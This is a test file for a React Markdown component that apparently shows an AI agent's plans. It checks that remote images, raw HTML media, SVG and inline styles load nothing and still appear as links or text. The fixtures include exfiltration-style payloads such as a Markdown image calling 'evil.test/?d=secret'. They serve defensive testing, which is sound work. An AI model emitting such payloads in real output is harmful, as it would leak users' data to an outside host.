import { render, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { Markdown } from "../src/components/Markdown";

/** Every element of the rendered text that would make the browser load something. */
function loaders(container: HTMLElement): string[] {
  return [...container.querySelectorAll("*")]
    .filter(
      (element) =>
        ["IMG", "VIDEO", "AUDIO", "SOURCE", "PICTURE", "IFRAME", "svg", "image", "LINK"].includes(
          element.tagName,
        ) ||
        ["src", "srcset", "poster", "style", "background", "xlink:href"].some((name) =>
          element.hasAttribute(name),
        ),
    )
    .map((element) => element.outerHTML);
}

describe("Markdown", () => {
  it("shows a remote image as a link to its address instead of loading it", () => {
    const { container } = render(
      <Markdown text="See ![x](https://evil.test/?d=secret) here" label="Plan" />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(loaders(container)).toEqual([]);
    const link = screen.getByRole("link", { name: "Image: x" });
    expect(link.getAttribute("href")).toBe("https://evil.test/?d=secret");
  });

  it("loads nothing from raw HTML: img, media, SVG, inline styles are gone or shown as text", () => {
    const text = [
      '<img src="https://evil.test/a.png">',
      "",
      '<p style="background:url(https://evil.test/b)">styled</p>',
      "",
      '<svg><image href="https://evil.test/c.svg"/></svg>',
      "",
      '<video poster="https://evil.test/d.png"><source src="https://evil.test/e.mp4"></video>',
      "",
      "Inline <img src=https://evil.test/f.png> too, and ![data](data:image/png;base64,AAAA).",
    ].join("\n");
    const { container } = render(<Markdown text={text} label="Plan" />);
    expect(loaders(container)).toEqual([]);
    // The raw HTML is shown as text, so a person sees what the agent wrote.
    expect(container.textContent).toContain('<img src="https://evil.test/a.png">');
    // A data: image is neither loaded nor linked.
    expect(screen.getByText("Image: data").getAttribute("href")).toBeNull();
  });

  it("keeps ordinary Markdown: headings, lists, code, links and tables", () => {
    const { container } = render(
      <Markdown
        text={
          "# Plan\n\n1. Step **one**\n2. Step `two`\n\n[docs](https://example.com/docs)\n\n" +
          "| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```"
        }
        label="Plan"
      />,
    );
    expect(screen.getByRole("heading", { name: "Plan" })).toBeTruthy();
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect(container.querySelector("strong")?.textContent).toBe("one");
    expect(screen.getByRole("link", { name: "docs" }).getAttribute("href")).toBe(
      "https://example.com/docs",
    );
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("pre code")?.textContent).toBe("const x = 1;\n");
  });
});
